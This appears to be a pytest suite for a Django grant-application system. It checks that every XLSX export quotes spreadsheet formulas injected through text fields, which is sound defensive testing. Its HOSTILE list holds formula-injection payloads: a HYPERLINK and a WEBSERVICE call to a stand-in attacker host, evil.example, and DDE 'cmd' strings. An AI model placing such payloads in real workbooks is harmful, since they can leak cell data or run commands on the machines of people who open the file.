"""Every workbook Otbor writes, fed hostile text in every text field it shows, holds no
formula: the applicant's model template (portal), the macro scenario (calls), the
protocol and the register of winners (the admin's download, the ``export_protocol``
command, the background export of a large meeting).

Where Otbor writes XLSX (``grep -rn "openpyxl\\|Workbook(" --include=*.py``):
applications/xlsx_model.py, calls/scenario_xlsx.py, commission/protocol/xlsx_renderer.py;
all save through ``reference.xlsx_writing.workbook_bytes``."""

from __future__ import annotations

from io import BytesIO, StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from applications.models import Application
from applications.xlsx_model import import_project
from commission import export_jobs, services
from commission.models import ProtocolExport
from organisations.models import Organisation
from reference.models import Region
from reference.xlsx_writing import looks_like_formula, safe_cell_value, unquote_cell_text
from tests.commission.conftest import build_round, close_round, open_round, score
from tests.factories import UserFactory, call_with_example_scenario, complete_application

pytestmark = pytest.mark.django_db

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
    "+7(495)123",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '   =WEBSERVICE("http://evil.example")',
    "＝1+1",
)


def cells_of(content: bytes) -> list[tuple[str, object, str]]:
    """(coordinate, value, data type) of every cell of every sheet."""
    workbook = load_workbook(BytesIO(content))
    return [
        (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def assert_no_live_formula(content: bytes, hostile: str) -> None:
    cells = cells_of(content)
    formulas = [(where, value) for where, value, kind in cells if kind == "f"]
    assert formulas == []
    live = [
        (where, value)
        for where, value, _kind in cells
        if isinstance(value, str) and looks_like_formula(value)
    ]
    assert live == []
    # The hostile text is there, as inert text: the test exercised the field.
    assert any(isinstance(value, str) and hostile.strip() in value for _w, value, _k in cells)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_model_template_keeps_a_hostile_title_as_text(client, hostile):
    call = call_with_example_scenario()
    app = complete_application(call)
    Application.objects.filter(pk=app.pk).update(title=hostile)
    client.force_login(app.created_by)
    response = client.get(reverse("portal:model_template", args=[app.pk]))
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert_no_live_formula(content, hostile)
    # Sent back unchanged, the template gives the title as the applicant typed it.
    project = import_project(content)
    assert project["title"] == hostile.strip()


@pytest.mark.parametrize("hostile", HOSTILE[:3])
def test_macro_scenario_keeps_a_hostile_region_name_as_text(client, hostile):
    call = call_with_example_scenario()
    Region.objects.filter(pk="39").update(name=hostile)
    client.force_login(UserFactory(role="secretary"))
    response = client.get(reverse("calls:macro_export", args=[call.pk]))
    assert response.status_code == 200
    assert_no_live_formula(response.content, hostile)


HOSTILE_PROTOCOL = HOSTILE[5]  # leading spaces: the case the protocol's own check missed


@pytest.fixture
def hostile_round(db):
    rnd = build_round(1)
    first = rnd.apps[0]
    Application.objects.filter(pk=first.pk).update(title=HOSTILE_PROTOCOL)
    Organisation.objects.filter(pk=first.organisation_id).update(full_name=HOSTILE_PROTOCOL)
    meeting = rnd.meeting
    type(meeting).objects.filter(pk=meeting.pk).update(place=HOSTILE_PROTOCOL)
    rnd.chair.user.full_name = HOSTILE_PROTOCOL
    rnd.chair.user.save(update_fields=["full_name"])
    open_round(rnd)
    for member in rnd.voting[1:]:
        score(rnd, member, first, 35, 30, 25, finding=HOSTILE_PROTOCOL)
    services.declare_conflict(
        meeting_id=meeting.pk, application_id=first.pk, user=rnd.chair.user, reason=HOSTILE_PROTOCOL
    )
    close_round(rnd)
    return rnd


@pytest.mark.parametrize("fmt", ["xlsx", "winners"])
def test_protocol_workbooks_keep_hostile_text_as_text(client, hostile_round, fmt, tmp_path):
    rnd = hostile_round
    client.force_login(rnd.secretary.user)
    response = client.get(reverse("admin:commission_meeting_protocol", args=[rnd.meeting.pk, fmt]))
    assert response.status_code == 200, response.status_code
    assert_no_live_formula(response.content, HOSTILE_PROTOCOL)

    out = tmp_path / "protocol.xlsx"
    call_command("export_protocol", rnd.meeting.pk, format=fmt, out=str(out), stdout=StringIO())
    assert_no_live_formula(out.read_bytes(), HOSTILE_PROTOCOL)

    export = ProtocolExport.objects.create(meeting=rnd.meeting, fmt=fmt, requested_by=rnd.secretary.user)
    export_jobs.run_export(export.pk)
    export.refresh_from_db()
    assert_no_live_formula(export.file.read(), HOSTILE_PROTOCOL)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_helper_quotes_and_the_reader_unquotes(hostile):
    safe = safe_cell_value(hostile)
    assert safe == "'" + hostile
    assert unquote_cell_text(safe) == hostile


@pytest.mark.parametrize("harmless", ["Проект", "ООО «=Завод»", "'цитата", "1+1", "", 5, None])
def test_the_helper_leaves_harmless_values(harmless):
    assert safe_cell_value(harmless) == harmless


def test_a_formula_otbor_means_is_kept_and_any_other_is_quoted():
    from openpyxl import Workbook

    from reference.xlsx_writing import workbook_bytes

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Итоги"
    sheet["A1"], sheet["A2"], sheet["A3"] = 1, "=A1*2", "=HYPERLINK(A1)"
    cells = {
        where: (value, kind)
        for where, value, kind in cells_of(workbook_bytes(workbook, formulas={"Итоги!A2"}))
    }
    assert cells["Итоги!A2"] == ("=A1*2", "f")
    assert cells["Итоги!A3"] == ("'=HYPERLINK(A1)", "s")


def test_every_workbook_is_saved_through_the_safe_writer():
    """A new XLSX writer that calls ``Workbook.save`` itself would skip the neutralising
    pass: the only ``.save(`` on a workbook is in reference/xlsx_writing.py."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "tests/", "var/")) or "/migrations/" in relative:
            continue
        source = path.read_text(encoding="utf-8")
        if "openpyxl" in source and re.search(r"\b\w*(workbook|wb|book)\w*\.save\(", source, re.IGNORECASE):
            writers.append(relative)
    assert writers == ["reference/xlsx_writing.py"]
